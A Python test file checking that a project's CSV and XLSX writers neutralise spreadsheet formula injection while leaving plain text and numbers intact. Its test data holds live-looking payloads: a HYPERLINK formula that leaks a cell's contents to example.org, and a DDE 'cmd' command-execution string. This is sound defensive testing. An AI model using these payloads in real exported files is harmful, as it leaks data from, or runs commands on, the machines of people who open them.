"""Text reaches spreadsheets as text, never as a formula; numbers stay numbers."""

import io
import zipfile

import openpyxl
import polars as pl
import pytest
from openpyxl import Workbook

from benchlearn.engine.io.csv_frames import read_groups_csv, write_csv_atomic
from benchlearn.engine.io.spreadsheet_cells import (
    csv_cell,
    csv_cell_read,
    formula_like,
    xlsx_cell,
)

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_for_csv_and_read_back_as_written(text):
    assert formula_like(text)
    written = csv_cell(text)
    assert written == "'" + text
    assert csv_cell_read(written) == text


@pytest.mark.parametrize("value", ["Gmina Kłodzko", "remont szkoły", "", "12,5", -5, -1.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value
    if isinstance(value, str):
        assert csv_cell_read(value) == value
    # Only the apostrophe we add before a formula's first character is taken off.
    assert csv_cell_read("'tak") == "'tak"


def _saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_a_quote_prefixed_string_cell_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Data") if write_only else book.active
    sheet.append([xlsx_cell(sheet, value) for value in [*HOSTILE, "zwykły\x07tekst", -5, -2.5]])
    data = _saved(book)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    row = next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())
    texts, plain, numbers = row[: len(HOSTILE)], row[len(HOSTILE)], row[len(HOSTILE) + 1 :]
    for cell, text in zip(texts, HOSTILE, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return so
    # A control character openpyxl refuses is dropped, not a failed download.
    assert plain.value == "zwykłytekst" and not plain.quotePrefix
    assert [(c.value, c.data_type) for c in numbers] == [(-5, "n"), (-2.5, "n")]


def test_command_line_csv_neutralises_text_columns_and_reads_them_back(tmp_path):
    path = tmp_path / "groups.csv"
    frame = pl.DataFrame({"group": ["=cmd|' /C calc'!A0", "B"], "unit": ["-1", "0201011"]})
    write_csv_atomic(frame.with_columns(pl.lit(-2.5).alias("score")), path)
    text = path.read_text()
    assert "'=cmd" in text and "'-1" in text and "-2.5" in text and "'-2.5" not in text
    read = read_groups_csv(path)
    assert read["group"].to_list() == frame["group"].to_list()
    assert read["unit"].to_list() == frame["unit"].to_list()
